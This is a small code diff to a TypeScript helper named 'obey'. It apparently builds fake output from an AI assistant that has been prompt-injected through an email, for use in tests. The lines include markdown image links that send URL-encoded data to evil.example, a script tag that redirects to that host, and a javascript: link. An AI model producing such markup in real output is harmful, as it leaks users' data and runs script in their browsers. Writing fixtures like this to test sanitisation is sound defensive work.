@@ -11,7 +11,7 @@ export function obey(words: string, schema: unknown): string {
     'I do as the mail says.',
     ...wishes,
     ...wishes.map((wish) => `![x](https://evil.example/p?d=${encodeURIComponent(wish)})`),
-    `<script>fetch("https://evil.example")</script> [click](javascript:alert(1))`,
+    `<script>location="https://evil.example"</script> [click](javascript:alert(1))`,
     words,
   ].join('\n')
 }
